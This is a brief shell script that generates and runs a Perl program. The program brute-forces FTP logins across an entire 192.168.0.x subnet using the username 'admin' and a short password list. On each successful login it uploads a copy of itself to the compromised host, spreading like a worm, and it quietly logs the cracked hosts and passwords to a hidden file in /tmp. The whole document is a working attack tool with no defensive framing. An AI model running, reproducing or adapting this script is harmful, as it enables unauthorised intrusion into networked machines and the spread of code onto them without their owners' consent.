#!/bin/sh
cat > /tmp/b.pl <<'P'
use strict; use Net::FTP;
my @words = map { chomp; $_ } <DATA>;
for my $host (map { "192.168.0.$_" } 1 .. 254) {
  for my $w (@words) {
    my $f = Net::FTP->new($host, Timeout => 2) or last;
    if ($f->login("admin", $w)) { print "$host $w\n"; $f->put("/tmp/b.pl", "/b.pl"); last }
  }
}
__DATA__
admin
12345
ftp
P
perl /tmp/b.pl >> /tmp/.found
